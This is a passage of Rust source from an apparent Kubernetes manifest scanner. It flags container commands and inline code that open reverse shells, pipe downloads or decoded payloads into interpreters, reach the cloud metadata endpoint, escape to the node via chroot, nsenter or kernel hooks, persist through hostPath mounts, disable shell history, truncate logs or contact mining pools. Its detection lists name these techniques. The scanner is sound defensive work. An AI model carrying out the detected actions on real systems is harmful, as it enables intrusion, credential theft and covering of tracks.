                    format!("the command writes {what} through a hostPath mount with `{prog}`"),
                    H_PERSIST,
                    host.clone(),
                ));
            }
        }

        for (rule, at, label, message, help, value) in hits {
            self.hit(rule, at, label, message, help, value);
        }
    }

    fn check_chroot(&mut self, loc: &Loc, dir: &str) {
        let host_root = self
            .mounts
            .iter()
            .any(|m| matches!(&m.kind, MountKind::Host(h) if h == "/") && m.path == dir);
        if host_root
            || [
                "/host",
                "/rootfs",
                "/node",
                "/hostfs",
                "/host-root",
                "/mnt/host",
                "/host/root",
            ]
            .contains(&dir)
        {
            self.hit(
                &HOST_ESCAPE,
                loc.clone(),
                format!("chroot {dir}: the node's root filesystem"),
                "the command chroots into the node's root filesystem",
                H_ESCAPE,
                format!("chroot {dir}"),
            );
        }
    }

    fn check_nsenter(&mut self, argv: &[Arg]) {
        let mut target_one = None;
        for (i, a) in argv.iter().enumerate().skip(1) {
            let t = a.text.as_str();
            let next = argv.get(i + 1).map(|x| x.text.as_str());
            if ((t == "-t" || t == "--target") && next == Some("1"))
                || t == "-t1"
                || t == "--target=1"
                || t.contains("/proc/1/ns")
            {
                target_one = Some(a.loc.clone());
                break;
            }
        }
        if let Some(at) = target_one {
            self.hit(
                &HOST_ESCAPE,
                at,
                "nsenter -t 1: the node's init process",
                "the command enters the namespaces of the node's PID 1",
                H_ESCAPE,
                "nsenter -t 1",
            );
        }
    }

    /// Redirections of a shell command without words (`: > f` is a command; `> f` is this).
    fn bare_redirects(&mut self, sid: usize, ci: usize, root: Option<&str>) {
        let _ = root;
        let cmd = self.scripts[sid].parsed.cmds[ci].clone();
        for r in &cmd.redirects {
            self.redirect_check(sid, r, "", root);
        }
        // HISTFILE=/dev/null and friends.
        for (n, w) in &cmd.assigns {
            if (n == "HISTFILE" && (w.text == "/dev/null" || w.text.is_empty()))
                || ((n == "HISTSIZE" || n == "HISTFILESIZE") && w.text == "0")
            {
                let what = format!("{n}={}", w.text);
                self.hit(
                    &EVASION,
                    Loc::Script(sid, w.span.clone()),
                    format!("`{what}` disables shell history"),
                    format!("the command runs `{what}`"),
                    H_EVASION,
                    what.clone(),
                );
            }
        }
    }

    fn redirect_check(&mut self, sid: usize, r: &shell::Redirect, prog: &str, root: Option<&str>) {
        let ctx = self.ctx;
        let extra = &ctx.settings.command_indicators;
        let t = r.target.text.as_str();
        let loc = Loc::Script(sid, r.target.span.clone());
        if r.body.is_some() || r.op == "<<<" {
            return;
        }
        let dup = matches!(r.op, ">&" | "<&") && t.bytes().all(|b| b.is_ascii_digit() || b == b'-');
        if dup {
            return;
        }
        let dev = normalize_path(t);
        if dev.starts_with("/dev/tcp/") || dev.starts_with("/dev/udp/") {
            self.hit(
                &REVERSE_SHELL,
                loc.clone(),
                format!("`{t}` is a network connection"),
                "the command redirects a shell's input or output to a network socket",
                H_REVERSE,
                dev.clone(),
            );
            if let Some(h) = is_metadata(t, &extra.metadata_hosts) {
                self.hit(
                    &CLOUD_METADATA,
                    loc.clone(),
                    format!("`{h}`: the cloud instance metadata service"),
                    format!("a /dev/tcp connection reaches the cloud metadata endpoint {h}"),
                    H_METADATA,
                    h,
                );
            }
            return;
        }
        let writes = matches!(r.op, ">" | ">>" | ">|" | "&>" | "&>>" | "<>" | ">&");
        if !writes {
            if t.contains("/run/secrets/kubernetes.io/serviceaccount/token") {
                self.hit(
                    &CLUSTER_API_ABUSE,
                    loc,
                    "the pod's service account token",
                    "the command reads the mounted service account token",
                    H_API,
                    "sa-token",
                );
            }
            return;
        }
        let full = resolve_path(t, root);
        if full.ends_with("/release_agent")
            || full.ends_with("/proc/sys/kernel/core_pattern")
            || full == "/proc/sysrq-trigger"
        {
            self.hit(
                &HOST_ESCAPE,
                loc.clone(),
                format!("writes {full}"),
                "the command writes a kernel hook that runs code on the node",
                H_ESCAPE,
                full.clone(),
            );
        }
        if let Some(host) = self.host_path(t, root)
            && let Some(what) = persistence_point(&host)
        {
            self.hit(
                &HOST_PERSISTENCE,
                loc.clone(),
                format!("writes {host} on the node"),
                format!("a redirection writes {what} through a hostPath mount"),
                H_PERSIST,
                host,
            );
        }
        let truncates = matches!(r.op, ">" | ">|")
            && matches!(prog, "" | ":" | "true" | "cat" | "echo" | "printf");
        if truncates && is_log_path(t, &extra.log_files) {
            self.hit(
                &EVASION,
                loc,
                format!("truncates {t}"),
                "the command empties a log file",
                H_EVASION,
                format!("> {t}"),
            );
        }
    }

    /// Structural checks over one parsed script.
    fn script_checks(&mut self, sid: usize) {
        // The call of each shell command (the last one recorded wins, as wrappers re-record).
        let n = self.scripts[sid].parsed.cmds.len();
        let mut calls: Vec<Option<usize>> = vec![None; n];
        for (k, c) in self.calls.iter().enumerate() {
            if let Some((s, ci)) = c.at
                && s == sid
                && ci < n
            {
                calls[ci] = Some(k);
            }
        }
        let mut by_pipeline: BTreeMap<usize, Vec<usize>> = BTreeMap::new();
        for (ci, c) in self.scripts[sid].parsed.cmds.iter().enumerate() {
            by_pipeline.entry(c.pipeline).or_default().push(ci);
        }
        // Redirections of commands with words.
        for ci in 0..n {
            let cmd = &self.scripts[sid].parsed.cmds[ci];
            if cmd.words.is_empty() {
                continue;
            }
            let reds = cmd.redirects.clone();
            let (prog, root) = match call_at(self, &calls, ci) {
                Some(c) => (c.prog.clone(), c.root.clone()),
                None => (basename(&cmd.words[0].text).to_string(), None),
            };
            let only_null = {
                let c = call_at(self, &calls, ci);
                c.is_some_and(|c| {
                    c.args()
                        .iter()
                        .all(|a| a.text == "/dev/null" || a.text == "-n" || a.text.is_empty())
                })
            };
            for r in &reds {
                let p = if prog == "cat" || prog == "echo" || prog == "printf" {
                    if only_null { prog.as_str() } else { "x" }
                } else {
                    prog.as_str()
                };
                self.redirect_check(sid, r, p, root.as_deref());
            }
        }

        // Which commands are downloads, decoders, network clients (a group counts by what it holds).
        let parsed = &self.scripts[sid].parsed;
        let holds = |this: &Self, ci: usize, pred: &dyn Fn(&Call) -> bool| -> Option<usize> {
            if call_at(this, &calls, ci).is_some_and(pred) {
                return Some(ci);
            }
            if parsed.cmds[ci].group {
                return (ci + 1..n).find(|&d| {
                    parsed.is_within(d, ci) && call_at(this, &calls, d).is_some_and(pred)
                });
            }
            None
        };
        let mut found: Vec<Hit> = Vec::new();
        let push = |found: &mut Vec<Hit>,
                    rule: &'static Rule,
                    loc: Loc,
                    label: String,
                    message: String,
                    help: &'static str,
                    value: String,
                    extra: Vec<(Loc, String)>| {
            found.push(Hit {
                rule: rule.id,
                loc,
                label,
                message,
                help,
                value,
                extra,
            });
        };
        for ci in 0..n {
            let cmd = &parsed.cmds[ci];
            // Pipelines: a producer at an earlier stage, a sink at a later one.
            if cmd.stage > 0
                && let Some(sink) = call_at(self, &calls, ci).filter(|c| is_sink(c))
            {
                let earlier: Vec<usize> = by_pipeline
                    .get(&cmd.pipeline)
                    .into_iter()
                    .flatten()
                    .copied()
                    .filter(|&d| {
                        d < ci
                            && parsed.cmds[d].pipeline == cmd.pipeline
                            && parsed.cmds[d].stage < cmd.stage
                            && parsed.cmds[d].parent == cmd.parent
                    })
                    .collect();
                let sink_label = (sink.loc(), format!("`{}` runs what it reads", sink.prog));
                for &d in &earlier {
                    let tcp_read = parsed.cmds[d].redirects.iter().find(|r| {
                        matches!(r.op, "<" | "<>")
                            && normalize_path(&r.target.text).starts_with("/dev/tcp/")
                    });
                    if let Some(r) = tcp_read {
                        push(
                            &mut found,
                            &DOWNLOAD_EXEC,
                            Loc::Script(sid, r.target.span.clone()),
                            "reads code from a raw TCP connection".into(),
                            format!(
                                "data read from a /dev/tcp connection is piped into `{}`",
                                sink.prog
                            ),
                            H_DOWNLOAD,
                            format!("/dev/tcp|{}", sink.prog),
                            vec![sink_label.clone()],
                        );
                    } else if let Some(x) = holds(self, d, &is_download) {
                        let c = call_at(self, &calls, x).expect("held");
                        push(
                            &mut found,
                            &DOWNLOAD_EXEC,
                            c.loc(),
                            format!("`{}` downloads code", c.prog),
                            format!("the output of `{}` is piped into `{}`", c.prog, sink.prog),
                            H_DOWNLOAD,
                            format!("{}|{}", c.prog, sink.prog),
                            vec![sink_label.clone()],
                        );
                    } else if let Some(x) = holds(self, d, &is_decoder) {
                        let c = call_at(self, &calls, x).expect("held");
                        push(
                            &mut found,
                            &ENCODED_PAYLOAD,
                            c.loc(),
                            format!("`{}` decodes a hidden payload", c.prog),
                            format!(
                                "decoded data from `{}` is piped into `{}`",
                                c.prog, sink.prog
                            ),
                            H_ENCODED,
                            format!("{}|{}", c.prog, sink.prog),
                            vec![sink_label.clone()],
                        );
                    } else if let Some(x) = holds(self, d, &is_net_client) {
                        let c = call_at(self, &calls, x).expect("held");
                        push(
                            &mut found,
                            &REVERSE_SHELL,
                            c.loc(),
                            format!("`{}` reads from the network", c.prog),
                            format!(
                                "what `{}` receives from the network is piped into `{}`",
                                c.prog, sink.prog
                            ),
                            H_REVERSE,
                            format!("{}|{}", c.prog, sink.prog),
                            vec![sink_label.clone()],
                        );
                    }
                }
            }
            // Substitutions: `bash <(curl ...)`, `eval "$(curl ...)"`, `$(curl ...)` as program.
            if let Some((p, via)) = cmd.parent
                && matches!(via, Via::CommandSub | Via::ProcSubIn)
                && let Some(parent) = call_at(self, &calls, p)
            {
                let prog_pos = parsed.cmds[p].words.first().is_some_and(|w| {
                    w.span.start <= cmd.span.start && cmd.span.end <= w.span.end + 1
                }) && via == Via::CommandSub;
                if runs_code(parent) || prog_pos {
                    let runner = if prog_pos {
                        "the shell".to_string()
                    } else {
                        format!("`{}`", parent.prog)
                    };
                    let how = if via == Via::ProcSubIn {
                        "as a file"
                    } else {
                        "as code"
                    };
                    if let Some(c) = call_at(self, &calls, ci).filter(|c| is_download(c)) {
                        push(
                            &mut found,
                            &DOWNLOAD_EXEC,
                            c.loc(),
                            format!("`{}` downloads code", c.prog),
                            format!("the output of `{}` runs {how} in {runner}", c.prog),
                            H_DOWNLOAD,
                            format!("{}>{}", c.prog, parent.prog),
                            vec![(parent.loc(), format!("`{}` runs it", parent.prog))],
                        );
                    } else if let Some(c) = call_at(self, &calls, ci).filter(|c| is_decoder(c)) {
                        push(
                            &mut found,
                            &ENCODED_PAYLOAD,
                            c.loc(),
                            format!("`{}` decodes a hidden payload", c.prog),
                            format!("the output of `{}` runs {how} in {runner}", c.prog),
                            H_ENCODED,
                            format!("{}>{}", c.prog, parent.prog),
                            vec![(parent.loc(), format!("`{}` runs it", parent.prog))],
                        );
                    }
                }
            }
        }
        // Download to a file, then run it.
        let mut saved: Vec<(String, usize, Loc)> = Vec::new();
        for ci in 0..n {
            let Some(c) = call_at(self, &calls, ci) else {
                continue;
            };
            if is_download(c) && saved.len() < 64 {
                for (f, _) in download_outputs(c) {
                    saved.push((f, ci, c.loc()));
                }
                for r in &parsed.cmds[ci].redirects {
                    if matches!(r.op, ">" | ">>" | ">|" | "&>") {
                        saved.push((r.target.text.clone(), ci, c.loc()));
                    }
                }
                continue;
            }
            let run_target: Option<&Arg> = if c.argv[0].text.contains('/') {
                Some(&c.argv[0])
            } else if runs_code(c) && c.prog != "eval" {
                c.args().iter().find(|a| !a.text.starts_with('-'))
            } else {
                None
            };
            if let Some(t) = run_target
                && let Some((f, _, dl)) = saved
                    .iter()
                    .find(|(f, d, _)| *d < ci && same_file(f, &t.text))
            {
                push(
                    &mut found,
                    &DOWNLOAD_EXEC,
                    dl.clone(),
                    "downloads a file".into(),
                    format!("a downloaded file `{}` is executed", basename(f)),
                    H_DOWNLOAD,
                    format!("save-run {}", basename(f)),
                    vec![(t.loc.clone(), "runs the downloaded file".into())],
                );
            }
        }
        // mkfifo + nc.
        let fifo = (0..n).find(|&ci| {
            call_at(self, &calls, ci)
                .is_some_and(|c| c.prog == "mkfifo" || (c.prog == "mknod" && c.has("p")))
        });
        if let Some(fifo) = fifo
            && let Some(c) = (fifo + 1..n)
                .filter_map(|ci| call_at(self, &calls, ci))
                .find(|c| is_net_client(c))
        {
            push(
                &mut found,
                &REVERSE_SHELL,
                c.loc(),
                format!("`{}` wired to a named pipe", c.prog),
                format!("a named pipe connects `{}` to a shell", c.prog),
                H_REVERSE,
                format!("mkfifo {}", c.prog),
                Vec::new(),
            );
        }
        let room = MAX_HITS.saturating_sub(self.hits.len());
        self.hits.extend(found.into_iter().take(room));
    }
}

/// The call of shell command `ci`, given (command, call index) pairs.
fn call_at<'x>(this: &'x Analyser, calls: &[Option<usize>], ci: usize) -> Option<&'x Call> {
    calls
        .get(ci)
        .copied()
        .flatten()
        .and_then(|k| this.calls.get(k))
}

/// String-level checks of inline interpreter code.
fn code_checks(a: &mut Analyser, sid: usize, lang: &str) {
    let code = a.scripts[sid].text.clone();
    let l = code.to_ascii_lowercase();
    let whole = 0..code.len();
    let at = |needle: &str| -> Loc {
        l.find(needle).map_or(Loc::Script(sid, whole.clone()), |i| {
            Loc::Script(sid, i..i + needle.len())
        })
    };
    let any = |ks: &[&'static str]| -> Option<&'static str> {
        ks.iter().find(|k| l.contains(*k)).copied()
    };
    let exec = any(&[
        "exec(",
        "eval(",
        "system(",
        "popen",
        "subprocess",
        "child_process",
        "pty.spawn",
        "shell_exec",
        "passthru",
        "proc_open",
        "spawn(",
        "`",
        "%x",
        "os.execv",
        "compile(",
    ]);
    if let (Some(dl), Some(ex)) = (
        any(&[
            "urlopen",
            "urllib",
            "requests.get",
            "http.get(",
            "https.get(",
            "net::http",
            "open-uri",
            "lwp::simple",
            "file_get_contents('http",
            "file_get_contents(\"http",
            "fetch(",
            "urlretrieve",
            "invoke-webrequest",
            "downloadstring",
        ]),
        exec,
    ) {
        let h = a.hit(
            &DOWNLOAD_EXEC,
            at(dl),
            format!("`{dl}` downloads code"),
            format!("inline {lang} code downloads and executes code"),
            H_DOWNLOAD,
            format!("{lang}:{dl}"),
        );
        h.extra.push((at(ex), format!("`{ex}` runs it")));
    }
    if let (Some(sock), Some(sh)) = (
        any(&[
            "socket",
            "fsockopen",
            "tcpsocket",
            "net.socket",
            "net.connect",
            "io::socket",
        ]),
        any(&[
            "dup2",
            "pty.spawn",
            "/bin/sh",
            "/bin/bash",
            "cmd.exe",
            "proc_open",
            "shell_exec",
            "child_process",
            "spawn(\"sh",
            "spawn('sh",
        ]),
    ) {
        let h = a.hit(
            &REVERSE_SHELL,
            at(sock),
            format!("`{sock}` connects out"),
            format!("inline {lang} code connects a socket to a shell"),
            H_REVERSE,
            format!("{lang}:{sock}"),
        );
        h.extra.push((at(sh), format!("`{sh}` gives it a shell")));
    }
    if let (Some(dec), Some(ex)) = (
        any(&[
            "b64decode",
            "base64_decode",
            "atob(",
            "decode64",
            "unpack(\"m",
            "unpack('m",
            "mime::base64",
            "'base64')",
            "\"base64\")",
            "frombase64string",
        ]),
        exec,
    ) {
        let h = a.hit(
            &ENCODED_PAYLOAD,
            at(dec),
            format!("`{dec}` decodes a payload"),
            format!("inline {lang} code decodes and executes a payload"),
            H_ENCODED,
            format!("{lang}:{dec}"),
        );
        h.extra.push((at(ex), format!("`{ex}` runs it")));
    }
    let ctx = a.ctx;
    let extra = &ctx.settings.command_indicators;
    if let Some(h) = is_metadata(&code, &extra.metadata_hosts) {
        let loc = at(&h.to_ascii_lowercase());
        a.hit(
            &CLOUD_METADATA,
            loc,
            format!("`{h}`: the cloud instance metadata service"),
            format!("inline {lang} code reaches the cloud metadata endpoint {h}"),
            H_METADATA,
            h,
        );
    }
    if let Some(s) = ind::MINER_SCHEMES.iter().find(|s| l.contains(*s)) {
        a.hit(
            &CRYPTO_MINER,
            at(s),
            format!("`{s}` is a mining pool protocol"),
            format!("inline {lang} code connects to a mining pool"),
            H_MINER,
            (*s).to_string(),
        );
    }
}

// ---------------------------------------------------------------------------------------
// The rule entry point.

/// The command rules that share one analysis (`command-env-secret-literal` reads the
/// environment, not the commands, and runs on its own).
const ANALYSED: &[&Rule] = &[
    &DOWNLOAD_EXEC,
    &REVERSE_SHELL,
    &ENCODED_PAYLOAD,
    &CRYPTO_MINER,
    &CLOUD_METADATA,
    &HOST_ESCAPE,
    &CLUSTER_API_ABUSE,
    &EVASION,
    &HOST_PERSISTENCE,
    &SUDO,
];

/// Report `rule`'s findings. The commands of the object are analysed once, by the first
/// command rule that runs; every rule then takes its own findings from the memo.
fn run(ctx: &Ctx, out: &mut Vec<Finding>, rule: &'static Rule) {
    let mut memo = ctx.memo.command.borrow_mut();
    let all = memo.get_or_insert_with(|| analyse(ctx));
    if let Some(i) = all.iter().position(|(id, _)| *id == rule.id) {
        out.append(&mut all.swap_remove(i).1);
    }
}

/// Every analysed command rule's findings on the object, by rule, in the order a rule
/// running alone would report them.
fn analyse(ctx: &Ctx) -> Vec<(&'static str, Vec<Finding>)> {
    let mut by_rule: Vec<(&'static str, Vec<Finding>)> =
        ANALYSED.iter().map(|r| (r.id, Vec::new())).collect();
    for (pod, c) in ctx.containers() {
        let mut a = Analyser::new(ctx, pod, c.node);
        a.container(c.node);
        if a.hits.is_empty() {
            continue;
        }
        let name = ctx.container_name(c);
        let locator = ctx.doc.locator(c.node);
        for (rule, out) in ANALYSED.iter().zip(by_rule.iter_mut()) {
            report(ctx, &a, rule, &name, &locator, &mut out.1);
        }
    }
    by_rule
}

/// One container's findings of `rule`, deduplicated by place and message.
fn report(
    ctx: &Ctx,
    a: &Analyser,
    rule: &'static Rule,
    name: &str,
    locator: &str,
    out: &mut Vec<Finding>,
) {
    let mut seen: std::collections::BTreeSet<(Arc<str>, Span, String)> =
        std::collections::BTreeSet::new();
    for h in a
        .hits
        .iter()
        .filter(|h| h.rule == rule.id)
        .take(MAX_FINDINGS_PER_RULE)
    {
        let (path, span) = a.place(&h.loc);
        let key = (path.clone(), span, h.message.clone());
        if !seen.insert(key) {
            continue;
        }
        let mut f = ctx.finding_at(
            rule,
            span,
            format!("{locator}.command"),
            h.value.clone(),
            format!("{} ({name})", h.message),
        );
        f.path = path.clone();
        f.label.clone_from(&h.label);
        for (loc, text) in &h.extra {
            let (p, s) = a.place(loc);
            if p == path && s != span {
                f.labels.push(Label {
                    span: s,
                    text: text.clone(),
                });
            }
        }
        if let Some((tloc, text)) = a.trigger(&h.loc) {
            let (p, s) = a.place(&tloc);
            if p == path {
                f.labels.push(Label { span: s, text });
            } else {
                f.related.push(Related {
                    path: p,
                    span: s,
                    text,
                });
            }
        }
        out.push(f.with_help(h.help));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shebangs_name_interpreters() {
        assert_eq!(
            shebang_interpreter("#!/usr/bin/env python3\nimport os"),
            Some("python")
        );
        assert_eq!(shebang_interpreter("#!/usr/bin/perl -w\n"), Some("perl"));
        assert_eq!(shebang_interpreter("#!/bin/sh\n"), None);
        assert_eq!(shebang_interpreter("echo hi"), None);
    }

    #[test]
    fn kubelet_expansion_replaces_known_variables_only() {
        let mut env = BTreeMap::new();
        env.insert("U".to_string(), "http://x".to_string());
        assert_eq!(
            kubelet_expand("curl $(U) $(V) $$(U)", &env),
            "curl http://x $(V) $(U)"
        );
    }

    #[test]
    fn metadata_hosts_match_as_hosts_not_digits() {
        assert!(is_metadata("http://169.254.169.254/latest", &[]).is_some());
        assert!(is_metadata("HTTP://2852039166/latest", &[]).is_some());
        assert!(is_metadata("1169.254.169.2549", &[]).is_none());
        assert!(is_metadata("id=2852039166", &[]).is_none());
        // The pre-filter in is_metadata relies on this.
        for h in ind::METADATA_HOSTS {
            assert!(
                h.bytes().any(|b| b.is_ascii_digit()) || h.contains("metadata"),
                "{h}"
            );
        }
        assert_eq!(
            is_metadata("http://METADATA.google.internal/x", &[]).as_deref(),
            Some("metadata.google.internal")
        );
        assert!(is_metadata("http://internal-meta/x", &["internal-meta".into()]).is_some());
    }

    /// The automaton answers as the host-by-host search it replaced (kept here as the
    /// reference), on every host with every prefix and suffix that changes the answer.
    #[test]
    fn metadata_automaton_answers_as_the_host_by_host_search() {
        fn reference(s: &str, extra: &[String]) -> Option<String> {
            let l = s.to_ascii_lowercase();
            ind::METADATA_HOSTS
                .iter()
                .copied()
                .chain(extra.iter().map(String::as_str))
                .find(|h| l.match_indices(h).any(|(i, _)| metadata_at(&l, h, i)))
                .map(str::to_string)
        }
        let extra = vec!["internal-meta".to_string(), "10.0.0.1".to_string()];
        let mut words = 0;
        for h in ind::METADATA_HOSTS
            .iter()
            .chain(["internal-meta", "10.0.0.1"].iter())
        {
            for pre in [
                "",
                "http://",
                "https://x@",
                "/dev/tcp/",
                "1",
                ".",
                "a",
                "id=",
                "http://169.254.169.254/",
            ] {
                for post in ["", "/latest", "1", ":80", ".x", "x2852039166"] {
                    let w = format!("{pre}{h}{post}");
                    for w in [w.clone(), w.to_ascii_uppercase()] {
                        assert_eq!(is_metadata(&w, &extra), reference(&w, &extra), "{w}");
                        words += 1;
                    }
                }
            }
        }
        assert!(words > 700);
        assert!(is_metadata("http://1.2.3.4/x", &extra).is_none());
    }

    #[test]
    fn pool_hosts_match_subdomains() {
        assert_eq!(
            pool_host("stratum+tcp://pool.supportxmr.com:3333", &[]).as_deref(),
            Some("supportxmr.com")
        );
        assert_eq!(pool_host("https://notsupportxmr.com/", &[]), None);
    }

    #[test]
    fn log_paths_and_persistence_points() {
        assert!(is_log_path("/var/log/*", &[]));
        assert!(is_log_path("/root/.bash_history", &[]));
        assert!(!is_log_path("/var/logical", &[]));
        assert!(is_log_path("/var/log/auth.log", &[]));
        assert!(!is_log_path("/var/log/myapp/old.log", &[]));
        assert!(persistence_point("/etc/cron.d/x").is_some());
        assert!(persistence_point("/root/.ssh/authorized_keys").is_some());
        assert!(persistence_point("/etc/hosts").is_none());
    }

    #[test]
    fn long_base64_needs_mixed_alphabet() {
        let blob = "QWxhZGRpbjpvcGVuIHNlc2FtZQ1234".repeat(10);
        assert!(long_base64(&format!("x {blob} y")).is_some());
        assert!(long_base64(&"a".repeat(500)).is_none());
    }
}
